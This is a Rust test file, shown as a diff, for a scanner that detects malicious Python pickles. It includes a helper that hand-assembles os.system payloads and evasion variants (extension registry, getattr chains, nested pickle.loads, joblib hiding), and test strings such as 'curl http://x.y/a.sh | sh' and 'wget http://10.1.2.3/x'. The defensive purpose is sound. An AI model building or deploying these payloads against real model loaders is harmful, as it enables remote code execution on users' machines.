@@ -1,0 +1,1087 @@
+//! End-to-end tests of the symbolic machine on hand-assembled pickles.
+
+use aigis_pickle::{LimitKind, Limits, Options, PickleScan, ProblemKind, Risk, VerdictKind, scan};
+
+/// A tiny pickle assembler.
+#[derive(Default, Clone)]
+struct P(Vec<u8>);
+
+impl P {
+    fn new() -> Self {
+        Self::default()
+    }
+    fn raw(mut self, b: &[u8]) -> Self {
+        self.0.extend_from_slice(b);
+        self
+    }
+    fn op(self, code: u8) -> Self {
+        self.raw(&[code])
+    }
+    fn proto(self, n: u8) -> Self {
+        self.raw(&[0x80, n])
+    }
+    fn global(self, module: &str, name: &str) -> Self {
+        self.raw(format!("c{module}\n{name}\n").as_bytes())
+    }
+    fn inst(self, module: &str, name: &str) -> Self {
+        self.raw(format!("i{module}\n{name}\n").as_bytes())
+    }
+    fn string0(self, s: &str) -> Self {
+        self.raw(format!("S'{s}'\n").as_bytes())
+    }
+    fn ustr(self, s: &str) -> Self {
+        let b = s.as_bytes();
+        if b.len() < 256 {
+            self.raw(&[0x8c, b.len() as u8]).raw(b)
+        } else {
+            self.raw(b"X").raw(&(b.len() as u32).to_le_bytes()).raw(b)
+        }
+    }
+    fn binunicode(self, s: &str) -> Self {
+        self.raw(b"X")
+            .raw(&(s.len() as u32).to_le_bytes())
+            .raw(s.as_bytes())
+    }
+    fn binunicode8(self, s: &str) -> Self {
+        self.raw(&[0x8d])
+            .raw(&(s.len() as u64).to_le_bytes())
+            .raw(s.as_bytes())
+    }
+    fn bytes(self, b: &[u8]) -> Self {
+        if b.len() < 256 {
+            self.raw(&[b'C', b.len() as u8]).raw(b)
+        } else {
+            self.raw(b"B").raw(&(b.len() as u32).to_le_bytes()).raw(b)
+        }
+    }
+    fn int(self, n: u8) -> Self {
+        self.raw(&[b'K', n])
+    }
+    fn binint(self, n: i32) -> Self {
+        self.raw(b"J").raw(&n.to_le_bytes())
+    }
+    fn binput(self, i: u8) -> Self {
+        self.raw(&[b'q', i])
+    }
+    fn binget(self, i: u8) -> Self {
+        self.raw(&[b'h', i])
+    }
+    fn frame(self, len: u64) -> Self {
+        self.raw(&[0x95]).raw(&len.to_le_bytes())
+    }
+    fn tuple1(self) -> Self {
+        self.op(0x85)
+    }
+    fn tuple2(self) -> Self {
+        self.op(0x86)
+    }
+    fn tuple3(self) -> Self {
+        self.op(0x87)
+    }
+    fn reduce(self) -> Self {
+        self.op(b'R')
+    }
+    fn stop(self) -> Self {
+        self.op(b'.')
+    }
+    fn len(&self) -> u64 {
+        self.0.len() as u64
+    }
+    /// `os.system(cmd)` in protocol 2.
+    fn payload(cmd: &str) -> Self {
+        P::new()
+            .proto(2)
+            .global("os", "system")
+            .ustr(cmd)
+            .tuple1()
+            .reduce()
+            .stop()
+    }
+}
+
+fn run(p: &P) -> PickleScan {
+    scan(&p.0[..], 0, &Options::default())
+}
+
+fn run_with(p: &P, limits: Limits) -> PickleScan {
+    scan(
+        &p.0[..],
+        0,
+        &Options {
+            limits,
+            ..Options::default()
+        },
+    )
+}
+
+fn critical(r: &PickleScan) -> Vec<&str> {
+    r.verdicts
+        .iter()
+        .filter(|v| v.risk == Risk::Critical)
+        .map(|v| v.message.as_str())
+        .collect()
+}
+
+fn assert_clean(r: &PickleScan) {
+    assert!(
+        r.verdicts.is_empty(),
+        "unexpected verdicts: {:#?}",
+        r.verdicts
+    );
+    assert!(r.problem.is_none(), "unexpected problem: {:?}", r.problem);
+}
+
+// ---- protocol 0 / 1 text opcodes ------------------------------------------------------
+
+#[test]
+fn proto0_global_string_reduce() {
+    let p = P::new()
+        .global("os", "system")
+        .op(b'(')
+        .string0("curl http://x.y/a.sh | sh")
+        .op(b't');
+    let reduce_at = p.len();
+    let p = p.reduce().stop();
+    let r = run(&p);
+    assert!(r.problem.is_none());
+    let v = &r.verdicts[0];
+    assert_eq!(v.risk, Risk::Critical);
+    assert_eq!(v.kind, VerdictKind::DangerousCall);
+    assert_eq!(v.offset, reduce_at);
+    assert!(
+        v.message
+            .starts_with("loading calls os.system('curl http://x.y/a.sh | sh')"),
+        "{}",
+        v.message
+    );
+    assert!(v.iocs.contains(&"http://x.y/a.sh".to_owned()));
+    assert!(v.iocs.contains(&"curl http://x.y/a.sh | sh".to_owned()));
+    assert_eq!(r.globals[0].to_string(), "os.system");
+    assert_eq!(r.streams.len(), 1);
+    assert_eq!(r.end, p.len());
+}
+
+#[test]
+fn proto0_string_escapes_and_unicode() {
+    let p = P::new()
+        .global("os", "system")
+        .op(b'(')
+        .raw(b"S'echo \\'hi\\'\\n'\n")
+        .op(b't')
+        .reduce()
+        .stop();
+    let r = run(&p);
+    assert_eq!(
+        critical(&r)[0],
+        "loading calls os.system(\"echo 'hi'\\n\") — command execution"
+    );
+    let p = P::new()
+        .global("os", "system")
+        .op(b'(')
+        .raw(b"Vtouch \\u00e9\n")
+        .op(b't')
+        .reduce()
+        .stop();
+    assert!(critical(&run(&p))[0].contains("os.system('touch \u{e9}')"));
+}
+
+#[test]
+fn proto0_inst_and_proto1_obj() {
+    let p = P::new().op(b'(').string0("id").inst("os", "system").stop();
+    assert!(critical(&run(&p))[0].starts_with("loading calls os.system('id')"));
+    let p = P::new()
+        .op(b'(')
+        .global("os", "system")
+        .string0("id")
+        .op(b'o')
+        .stop();
+    assert!(critical(&run(&p))[0].starts_with("loading calls os.system('id')"));
+    // An old-style class instance without arguments is a construction.
+    let p = P::new().op(b'(').inst("mymodule", "Thing").stop();
+    let r = run(&p);
+    assert_eq!(r.verdicts.len(), 1);
+    assert_eq!(r.verdicts[0].kind, VerdictKind::UnknownClass);
+    assert_eq!(r.verdicts[0].risk, Risk::Medium);
+}
+
+#[test]
+fn invalid_names_are_structural_errors() {
+    let p = P::new().raw(b"cos system\nx\n").stop();
+    let r = run(&p);
+    assert!(matches!(
+        r.problem.map(|p| p.kind),
+        Some(ProblemKind::BadArgument(_))
+    ));
+}
+
+// ---- protocol 2 ------------------------------------------------------------------------
+
+#[test]
+fn proto2_newobj_classes() {
+    let p = P::new()
+        .proto(2)
+        .global("__main__", "Net")
+        .op(b')')
+        .op(0x81)
+        .op(b'}')
+        .op(b'b')
+        .stop();
+    let r = run(&p);
+    assert_eq!(r.verdicts.len(), 1, "{:#?}", r.verdicts);
+    assert_eq!(r.verdicts[0].kind, VerdictKind::UnknownClass);
+    assert_eq!(r.verdicts[0].callee.as_deref(), Some("__main__.Net"));
+    let p = P::new()
+        .proto(2)
+        .global("torch.nn.modules.linear", "Linear")
+        .op(b')')
+        .op(0x81)
+        .op(b'}')
+        .op(b'b')
+        .stop();
+    assert_clean(&run(&p));
+}
+
+#[test]
+fn ext1_resolved_through_add_extension() {
+    let p = P::new()
+        .proto(2)
+        .global("copyreg", "add_extension")
+        .ustr("os")
+        .ustr("system")
+        .int(66)
+        .tuple3()
+        .reduce()
+        .op(b'0')
+        .raw(&[0x82, 66])
+        .ustr("id")
+        .tuple1()
+        .reduce()
+        .stop();
+    let r = run(&p);
+    let c = critical(&r);
+    assert!(
+        c.iter()
+            .any(|m| m.starts_with("loading calls os.system('id')")),
+        "{c:?}"
+    );
+}
+
+#[test]
+fn unresolved_extension_is_high() {
+    let p = P::new()
+        .proto(2)
+        .raw(&[0x83, 0x34, 0x12])
+        .op(b')')
+        .reduce()
+        .stop();
+    let r = run(&p);
+    assert!(
+        r.verdicts
+            .iter()
+            .any(|v| v.kind == VerdictKind::UnresolvedExtension && v.risk == Risk::High)
+    );
+}
+
+#[test]
+fn memo_sharing_binput_binget() {
+    let p = P::new()
+        .proto(2)
+        .global("os", "system")
+        .binput(0)
+        .op(b'0')
+        .binget(0)
+        .ustr("id")
+        .tuple1()
+        .reduce()
+        .stop();
+    assert!(critical(&run(&p))[0].starts_with("loading calls os.system('id')"));
+    let p = P::new().proto(2).binget(9).stop();
+    assert_eq!(
+        run(&p).problem.map(|p| p.kind),
+        Some(ProblemKind::MemoMiss(9))
+    );
+}
+
+// ---- protocol 4 / 5 --------------------------------------------------------------------
+
+#[test]
+fn stack_global_names_from_memo() {
+    let p = P::new()
+        .proto(4)
+        .ustr("os")
+        .op(0x94)
+        .op(b'0')
+        .ustr("system")
+        .op(0x94)
+        .op(b'0')
+        .binget(0)
+        .binget(1)
+        .op(0x93)
+        .binunicode8("id")
+        .tuple1()
+        .reduce()
+        .stop();
+    assert!(critical(&run(&p))[0].starts_with("loading calls os.system('id')"));
+}
+
+#[test]
+fn stack_global_names_from_proto0_strings() {
+    let p = P::new()
+        .proto(4)
+        .string0("torch")
+        .string0("os.system")
+        .op(0x93)
+        .binunicode("id")
+        .tuple1()
+        .reduce()
+        .stop();
+    assert!(critical(&run(&p))[0].starts_with("loading calls torch.os.system('id')"));
+}
+
+#[test]
+fn stack_global_with_computed_name_is_high() {
+    let p = P::new()
+        .proto(4)
+        .global("builtins", "str")
+        .ustr("os")
+        .tuple1()
+        .op(b'R')
+        .global("mod", "f")
+        .op(b')')
+        .reduce()
+        .op(0x93)
+        .op(b')')
+        .reduce()
+        .stop();
+    let r = run(&p);
+    assert!(
+        r.verdicts
+            .iter()
+            .any(|v| v.kind == VerdictKind::DynamicImport && v.risk == Risk::High),
+        "{:#?}",
+        r.verdicts
+    );
+}
+
+#[test]
+fn frames_with_wrong_lengths_do_not_change_decoding() {
+    for declared in [2u64, 5, 1 << 40] {
+        let body = P::new()
+            .global("os", "system")
+            .ustr("id")
+            .tuple1()
+            .reduce()
+            .stop();
+        let p = P::new().proto(4).frame(declared).raw(&body.0);
+        let r = run(&p);
+        assert!(
+            critical(&r)[0].starts_with("loading calls os.system('id')"),
+            "declared {declared}"
+        );
+        assert!(
+            r.verdicts.iter().any(|v| v.kind == VerdictKind::Anomaly),
+            "declared {declared}"
+        );
+    }
+    // A correct frame is not an anomaly.
+    let body = P::new().ustr("a").stop();
+    let p = P::new().proto(4).frame(body.len()).raw(&body.0);
+    assert_clean(&run(&p));
+}
+
+#[test]
+fn proto5_buffers_and_bytearray8() {
+    let p = P::new()
+        .proto(5)
+        .op(b'(')
+        .raw(&[0x96])
+        .raw(&3u64.to_le_bytes())
+        .raw(b"abc")
+        .op(0x97)
+        .op(0x97)
+        .op(0x98)
+        .op(b'l')
+        .stop();
+    assert_clean(&run(&p));
+}
+
+// ---- attribute access, dotted names ------------------------------------------------------
+
+#[test]
+fn getattr_on_a_module_global_resolves() {
+    let p = P::new()
+        .proto(2)
+        .global("builtins", "getattr")
+        .global("codecs", "builtins")
+        .ustr("eval")
+        .tuple2()
+        .reduce()
+        .ustr("1+1")
+        .tuple1()
+        .reduce()
+        .stop();
+    let r = run(&p);
+    let c = critical(&r);
+    assert_eq!(c.len(), 1, "{:#?}", r.verdicts);
+    assert!(
+        c[0].starts_with("loading calls codecs.builtins.eval('1+1')"),
+        "{}",
+        c[0]
+    );
+    // Not invoked: a dangerous reference.
+    let p = P::new()
+        .proto(2)
+        .global("__builtin__", "getattr")
+        .global("torch", "serialization")
+        .ustr("pickle")
+        .tuple2()
+        .reduce()
+        .stop();
+    let r = run(&p);
+    assert!(
+        r.verdicts
+            .iter()
+            .any(|v| v.kind == VerdictKind::DangerousReference),
+        "{:#?}",
+        r.verdicts
+    );
+}
+
+#[test]
+fn getattr_on_a_computed_object_is_reported_when_called() {
+    let p = P::new()
+        .proto(2)
+        .global("builtins", "getattr")
+        .global("mylib", "Thing")
+        .op(b')')
+        .reduce()
+        .ustr("run")
+        .tuple2()
+        .reduce()
+        .op(b')')
+        .reduce()
+        .stop();
+    let r = run(&p);
+    assert!(
+        r.verdicts
+            .iter()
+            .any(|v| v.risk == Risk::High && v.message.contains("mylib.Thing().run()")),
+        "{:#?}",
+        r.verdicts
+    );
+}
+
+#[test]
+fn dotted_names_match_any_suffix() {
+    for (m, n) in [
+        ("pathlib", "os.system"),
+        ("torch", "os.system"),
+        ("numpy", "testing._private.utils.runstring"),
+    ] {
+        let p = P::new()
+            .proto(2)
+            .global(m, n)
+            .ustr("x")
+            .tuple1()
+            .reduce()
+            .stop();
+        assert_eq!(critical(&run(&p)).len(), 1, "{m}.{n}");
+    }
+}
+
+// ---- streams -------------------------------------------------------------------------------
+
+#[test]
+fn concatenated_pickles_payload_in_second() {
+    let first = P::new().proto(2).op(b'}').stop();
+    let p = first.clone().raw(&P::payload("id").0);
+    let r = run(&p);
+    assert_eq!(r.streams.len(), 2);
+    assert_eq!(r.streams[1].start, first.len());
+    assert_eq!(r.end, p.len());
+    assert!(critical(&r)[0].starts_with("loading calls os.system('id')"));
+}
+
+#[test]
+fn trailing_non_pickle_bytes_stop_quietly() {
+    let first = P::new().proto(2).op(b'}').stop();
+    for tail in [
+        &b"\x10\x00\x00\x00\x00\x00\x00\x00raw"[..],
+        b"(\x00\x00",
+        b"",
+    ] {
+        let p = first.clone().raw(tail);
+        let r = run(&p);
+        assert_clean(&r);
+        assert_eq!(r.end, first.len());
+    }
+}
+
+#[test]
+fn truncated_after_payload_reports_both() {
+    let p = P::new()
+        .proto(2)
+        .global("os", "system")
+        .ustr("id")
+        .tuple1()
+        .reduce()
+        .op(b'(');
+    let r = run(&p);
+    assert_eq!(critical(&r).len(), 1);
+    assert_eq!(r.problem.map(|p| p.kind), Some(ProblemKind::Truncated));
+}
+
+#[test]
+fn nested_pickle_loads_is_scanned() {
+    let inner = P::payload("id");
+    let p = P::new().proto(2).global("pickle", "loads");
+    let data_at = p.len() + 5; // 'B' + u32 length
+    let p = p
+        .bytes(&[inner.0.clone(), vec![b' '; 300]].concat())
+        .tuple1()
+        .reduce()
+        .stop();
+    let r = run(&p);
+    let c = critical(&r);
+    assert!(
+        c.iter()
+            .any(|m| m.starts_with("loading calls pickle.loads(b'\\x80")),
+        "{c:?}"
+    );
+    let nested = r
+        .verdicts
+        .iter()
+        .find(|v| {
+            v.message.starts_with(&format!(
+                "nested pickle at byte {data_at}: loading calls os.system('id')"
+            ))
+        })
+        .unwrap_or_else(|| panic!("{:#?}", r.verdicts));
+    assert_eq!(nested.risk, Risk::Critical);
+    assert!(nested.offset > data_at);
+}
+
+#[test]
+fn nested_pickle_through_bytesio() {
+    let inner = P::payload("id");
+    let p = P::new()
+        .proto(2)
+        .global("torch", "load")
+        .global("io", "BytesIO")
+        .bytes(&inner.0)
+        .tuple1()
+        .reduce()
+        .tuple1()
+        .reduce()
+        .stop();
+    let r = run(&p);
+    assert!(
+        r.verdicts
+            .iter()
+            .any(|v| v.message.contains("nested pickle") && v.message.contains("os.system('id')"))
+    );
+    // The allow-listed torch helper: only the content decides.
+    let benign = P::new().proto(2).op(b'}').stop();
+    let p = P::new()
+        .proto(2)
+        .global("torch.storage", "_load_from_bytes")
+        .bytes(&benign.0)
+        .tuple1()
+        .reduce()
+        .stop();
+    let r = run(&p);
+    assert!(
+        r.verdicts.iter().all(|v| v.risk == Risk::Info),
+        "{:#?}",
+        r.verdicts
+    );
+}
+
+#[test]
+fn nesting_depth_is_limited() {
+    let mut p = P::payload("id");
+    for _ in 0..12 {
+        p = P::new()
+            .proto(2)
+            .global("pickle", "loads")
+            .bytes(&p.0)
+            .tuple1()
+            .reduce()
+            .stop();
+    }
+    let r = run(&p);
+    assert_eq!(
+        r.problem.map(|p| p.kind),
+        Some(ProblemKind::LimitExceeded {
+            which: LimitKind::Nesting
+        })
+    );
+}
+
+// ---- joblib -------------------------------------------------------------------------------
+
+fn joblib_wrapper(p: P, dtype: &str, shape: &[u8], aligned: bool) -> P {
+    let mut p = p
+        .global("joblib.numpy_pickle", "NumpyArrayWrapper")
+        .op(b')')
+        .op(0x81)
+        .op(b'}')
+        .op(b'(')
+        .ustr("subclass")
+        .global("numpy", "ndarray")
+        .ustr("shape")
+        .op(b'(');
+    for &d in shape {
+        p = p.int(d);
+    }
+    p = p
+        .op(b't')
+        .ustr("order")
+        .ustr("C")
+        .ustr("dtype")
+        .global("numpy", "dtype")
+        .ustr(dtype)
+        .op(0x89)
+        .op(0x88)
+        .tuple3()
+        .reduce()
+        .op(b'(')
+        .int(3)
+        .ustr("<")
+        .op(b'N')
+        .op(b'N')
+        .op(b'N')
+        .binint(-1)
+        .binint(-1)
+        .int(0)
+        .op(b't')
+        .op(b'b')
+        .ustr("allow_mmap")
+        .op(0x88);
+    if aligned {
+        p = p.ustr("numpy_array_alignment_bytes").int(16);
+    }
+    p.op(b'u').op(b'b')
+}
+
+#[test]
+fn joblib_arrays_are_skipped() {
+    let p = joblib_wrapper(P::new().proto(4).op(b'(').op(b']'), "f8", &[2, 3], true);
+    // Padding length 5, padding, then 48 bytes that look like opcodes.
+    let p = p
+        .raw(&[5, 0, 0, 0, 0, 0])
+        .raw(&b"cos\nsystem\n".repeat(5)[..48]);
+    let p = p
+        .op(b'a')
+        .global("os", "system")
+        .ustr("id")
+        .tuple1()
+        .reduce()
+        .op(b'a')
+        .stop();
+    let r = run(&p);
+    assert!(r.problem.is_none(), "{:?}", r.problem);
+    assert_eq!(r.joblib_arrays, 1);
+    let c = critical(&r);
+    assert_eq!(c.len(), 1, "{:#?}", r.verdicts);
+    assert!(c[0].starts_with("loading calls os.system('id')"));
+}
+
+#[test]
+fn joblib_object_arrays_hold_a_pickle() {
+    let p = joblib_wrapper(P::new().proto(4), "O8", &[1], false);
+    let p = p.raw(&P::payload("id").0).op(b'0').ustr("after").stop();
+    let r = run(&p);
+    assert!(r.problem.is_none(), "{:?}", r.problem);
+    assert_eq!(critical(&r).len(), 1);
+}
+
+#[test]
+fn joblib_unknown_size_is_a_problem() {
+    let p = joblib_wrapper(P::new().proto(4), "x9", &[1], false).stop();
+    let r = run(&p);
+    assert!(matches!(
+        r.problem.map(|p| p.kind),
+        Some(ProblemKind::Joblib(_))
+    ));
+}
+
+// ---- hostile input --------------------------------------------------------------------------
+
+#[test]
+fn billion_laughs_stays_linear() {
+    let mut p = P::new().proto(2).ustr("lol").binput(0);
+    for i in 1..=60u8 {
+        p = p.op(b'(');
+        for _ in 0..10 {
+            p = p.binget(i - 1);
+        }
+        p = p.op(b'l').binput(i);
+    }
+    let p = p.global("os", "system").binget(60).tuple1().reduce().stop();
+    let started = std::time::Instant::now();
+    let r = run(&p);
+    assert!(started.elapsed().as_secs() < 5);
+    assert_eq!(critical(&r).len(), 1);
+    assert!(critical(&r)[0].chars().count() < 600);
+    let limited = run_with(
+        &p,
+        Limits {
+            max_values: 10,
+            ..Limits::default()
+        },
+    );
+    assert_eq!(
+        limited.problem.map(|p| p.kind),
+        Some(ProblemKind::LimitExceeded {
+            which: LimitKind::Values
+        })
+    );
+}
+
+#[test]
+fn deep_nesting_hits_limits_without_recursion() {
+    let p = P::new().raw(&vec![b'('; 2_000_000]);
+    assert_eq!(
+        run(&p).problem.map(|p| p.kind),
+        Some(ProblemKind::LimitExceeded {
+            which: LimitKind::Stack
+        })
+    );
+    let n = 300_000;
+    let p = P::new()
+        .proto(2)
+        .raw(&vec![b']'; n])
+        .raw(&vec![b'a'; n - 1])
+        .stop();
+    assert_clean(&run(&p));
+    let n = 300_000;
+    let mut p = P::new().proto(2).op(b'N');
+    for _ in 0..n {
+        p = p.tuple1();
+    }
+    let p = p
+        .global("os", "system")
+        .op(b'(')
+        .op(b'2')
+        .op(b't')
+        .op(b'0')
+        .stop();
+    let r = run(&p);
+    assert!(r.problem.is_some() || !r.verdicts.is_empty());
+}
+
+#[test]
+fn huge_declared_lengths_are_rejected_without_allocation() {
+    for p in [
+        P::new()
+            .proto(4)
+            .raw(&[0x8e])
+            .raw(&(1u64 << 63).to_le_bytes()),
+        P::new().proto(4).raw(&[0x8d]).raw(&u64::MAX.to_le_bytes()),
+        P::new()
+            .proto(5)
+            .raw(&[0x96])
+            .raw(&(1u64 << 62).to_le_bytes()),
+        P::new().proto(2).raw(&[0x8b]).raw(&(-5i32).to_le_bytes()),
+        P::new().proto(2).raw(b"T").raw(&i32::MAX.to_le_bytes()),
+    ] {
+        let r = run(&p);
+        assert!(matches!(
+            r.problem.map(|p| p.kind),
+            Some(ProblemKind::BadLength(_))
+        ));
+    }
+}
+
+#[test]
+fn large_constants_are_skipped_not_read() {
+    let big = vec![b'z'; 3 << 20];
+    let p = P::new()
+        .proto(4)
+        .raw(&[0x8e])
+        .raw(&(big.len() as u64).to_le_bytes())
+        .raw(&big)
+        .op(b'0')
+        .raw(&P::payload("id").0[2..]);
+    let r = run(&p);
+    assert_eq!(critical(&r).len(), 1);
+    assert!(
+        r.bytes_consumed < 512 * 1024,
+        "read {} bytes",
+        r.bytes_consumed
+    );
+}
+
+#[test]
+fn opcode_limit() {
+    let p = P::new().proto(2).raw(&vec![b'N'; 1000]).stop();
+    let r = run_with(
+        &p,
+        Limits {
+            max_opcodes: 100,
+            ..Limits::default()
+        },
+    );
+    assert_eq!(
+        r.problem.map(|p| p.kind),
+        Some(ProblemKind::LimitExceeded {
+            which: LimitKind::Opcodes
+        })
+    );
+}
+
+#[test]
+fn bad_protocol_and_empty_input() {
+    assert_eq!(
+        run(&P::new().proto(9)).problem.map(|p| p.kind),
+        Some(ProblemKind::UnsupportedProtocol(9))
+    );
+    assert_eq!(
+        run(&P::new()).problem.map(|p| p.kind),
+        Some(ProblemKind::Truncated)
+    );
+}
+
+// ---- benign ----------------------------------------------------------------------------------
+
+#[test]
+fn plain_data_in_every_protocol_is_clean() {
+    // Protocol 0: {'key': [1, 2.5, 'x', None, True], u'\u00e9': 12345678901234567890L}
+    let p0 = P::new().raw(b"(dp0\nVkey\np1\n(lp2\nI1\naF2.5\naS'x'\np3\naNaI01\nasV\\u00e9\nL12345678901234567890L\ns.");
+    // Protocol 1: a tuple of ints and a memoized string reused.
+    let p1 = P::new().raw(b"(K\x01M\x00\x01J\xff\xff\xff\xffU\x03abcq\x00h\x00tq\x01.");
+    // Protocol 2: dict with LONG1 and a tuple, NEWTRUE.
+    let p2 = P::new()
+        .proto(2)
+        .op(b'}')
+        .binput(0)
+        .op(b'(')
+        .binunicode("n")
+        .raw(&[0x8a, 2, 0xff, 0x7f])
+        .binunicode("t")
+        .int(1)
+        .op(0x88)
+        .tuple2()
+        .op(b'u')
+        .stop();
+    // Protocol 3: bytes.
+    let p3 = P::new().proto(3).bytes(b"\x00\x01data").stop();
+    // Protocol 4: framed set/frozenset.
+    let body = P::new()
+        .op(0x8f)
+        .op(b'(')
+        .int(1)
+        .int(2)
+        .op(0x90)
+        .op(b'(')
+        .int(3)
+        .op(0x91)
+        .tuple2()
+        .stop();
+    let p4 = P::new().proto(4).frame(body.len()).raw(&body.0);
+    // Protocol 5: bytearray.
+    let p5 = P::new()
+        .proto(5)
+        .raw(&[0x96])
+        .raw(&2u64.to_le_bytes())
+        .raw(b"hi")
+        .stop();
+    for p in [p0, p1, p2, p3, p4, p5] {
+        assert_clean(&run(&p));
+    }
+}
+
+#[test]
+fn benign_reconstructors_are_clean() {
+    let od = P::new()
+        .proto(2)
+        .global("collections", "OrderedDict")
+        .op(b')')
+        .reduce()
+        .stop();
+    assert_clean(&run(&od));
+    let codecs = P::new()
+        .proto(2)
+        .global("_codecs", "encode")
+        .binunicode("\u{e9}t\u{e9}")
+        .binunicode("latin1")
+        .tuple2()
+        .reduce()
+        .stop();
+    assert_clean(&run(&codecs));
+    let py2 = P::new()
+        .global("copy_reg", "_reconstructor")
+        .op(b'(')
+        .global("sklearn.tree._classes", "DecisionTreeClassifier")
+        .global("__builtin__", "object")
+        .op(b'N')
+        .op(b't')
+        .reduce()
+        .op(b'(')
+        .op(b'd')
+        .op(b'b')
+        .stop();
+    assert_clean(&run(&py2));
+}
+
+#[test]
+fn numpy_reconstruct_like_numpy_emits() {
+    // numpy.array([1.0, 2.0, 3.0]) pickled with protocol 2.
+    let data: Vec<u8> = [1.0f64, 2.0, 3.0]
+        .iter()
+        .flat_map(|f| f.to_le_bytes())
+        .collect();
+    let latin1: String = data.iter().map(|&b| char::from(b)).collect();
+    let p = P::new()
+        .proto(2)
+        .global("numpy.core.multiarray", "_reconstruct")
+        .binput(0)
+        .global("numpy", "ndarray")
+        .binput(1)
+        .int(0)
+        .tuple1()
+        .global("_codecs", "encode")
+        .binunicode("b")
+        .binunicode("latin1")
+        .tuple2()
+        .reduce()
+        .tuple3()
+        .reduce()
+        .op(b'(')
+        .int(1)
+        .int(3)
+        .tuple1()
+        .global("numpy", "dtype")
+        .binunicode("f8")
+        .op(0x89)
+        .op(0x88)
+        .tuple3()
+        .reduce()
+        .op(b'(')
+        .int(3)
+        .binunicode("<")
+        .op(b'N')
+        .op(b'N')
+        .op(b'N')
+        .binint(-1)
+        .binint(-1)
+        .int(0)
+        .op(b't')
+        .op(b'b')
+        .op(0x89)
+        .global("_codecs", "encode")
+        .binunicode(&latin1)
+        .binunicode("latin1")
+        .tuple2()
+        .reduce()
+        .op(b't')
+        .op(b'b')
+        .stop();
+    let r = run(&p);
+    assert_clean(&r);
+    assert!(
+        r.globals
+            .iter()
+            .any(|g| g.to_string() == "numpy.core.multiarray._reconstruct")
+    );
+}
+
+#[test]
+fn partial_of_a_framework_function_is_clean_but_of_os_system_critical() {
+    let ok = P::new()
+        .proto(2)
+        .global("functools", "partial")
+        .global("torch.nn.modules.normalization", "LayerNorm")
+        .tuple1()
+        .reduce()
+        .stop();
+    assert_clean(&run(&ok));
+    let bad = P::new()
+        .proto(2)
+        .global("functools", "partial")
+        .global("os", "system")
+        .ustr("id")
+        .tuple2()
+        .reduce()
+        .stop();
+    assert_eq!(critical(&run(&bad)).len(), 1);
+}
+
+#[test]
+fn extra_allowed_globals() {
+    let p = P::new()
+        .proto(2)
+        .global("mylib", "build")
+        .op(b')')
+        .reduce()
+        .stop();
+    assert_eq!(run(&p).verdicts[0].risk, Risk::High);
+    let opts = Options {
+        extra_allowed: vec!["mylib.build".into()],
+        ..Options::default()
+    };
+    assert!(scan(&p.0[..], 0, &opts).verdicts.is_empty());
+}
+
+#[test]
+fn build_on_a_global_is_state_on_global() {
+    let p = P::new()
+        .proto(2)
+        .global("torch.nn", "Module")
+        .op(b'}')
+        .ustr("x")
+        .int(1)
+        .op(b's')
+        .op(b'b')
+        .stop();
+    let r = run(&p);
+    assert_eq!(r.verdicts[0].kind, VerdictKind::StateOnGlobal);
+    assert_eq!(r.verdicts[0].risk, Risk::High);
+}
+
+#[test]
+fn start_offset_and_deterministic_output() {
+    let body = P::payload("wget http://10.1.2.3/x");
+    let p = P::new().raw(b"HEADER").raw(&body.0);
+    let a = scan(&p.0[..], 6, &Options::default());
+    let b = scan(&p.0[..], 6, &Options::default());
+    assert_eq!(a, b);
+    assert_eq!(a.streams[0].start, 6);
+    assert!(a.verdicts[0].iocs.contains(&"10.1.2.3".to_owned()));
+}
+
+mod prop {
+    use super::*;
+    use proptest::prelude::*;
+
+    const OPS: &[u8] = b"(.012FIJKLMNPQRSTUVXabcdeghijlopqrstu}])G\x80\x81\x82\x83\x84\x85\x86\x87\x88\x89\x8a\x8b\x8c\x8d\x8e\x8f\x90\x91\x92\x93\x94\x95\x96\x97\x98";
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(2000))]
+
+        #[test]
+        fn arbitrary_bytes_never_panic(data in proptest::collection::vec(any::<u8>(), 0..512)) {
+            let a = scan(&data[..], 0, &Options::default());
+            let b = scan(&data[..], 0, &Options::default());
+            prop_assert_eq!(a, b);
+        }
+
+        #[test]
+        fn opcode_soup_never_panics(
+            ops in proptest::collection::vec((0usize..OPS.len(), any::<u8>(), any::<bool>()), 0..300)
+        ) {
+            let mut data = vec![0x80, 4];
+            for (i, arg, newline) in ops {
+                data.push(OPS[i]);
+                data.push(arg % 8);
+                if newline {
+                    data.extend_from_slice(b"os\nsystem\n");
+                }
+            }
+            let a = scan(&data[..], 0, &Options::default());
+            let b = scan(&data[..], 0, &Options::default());
+            prop_assert_eq!(a, b);
+        }
+    }
+}
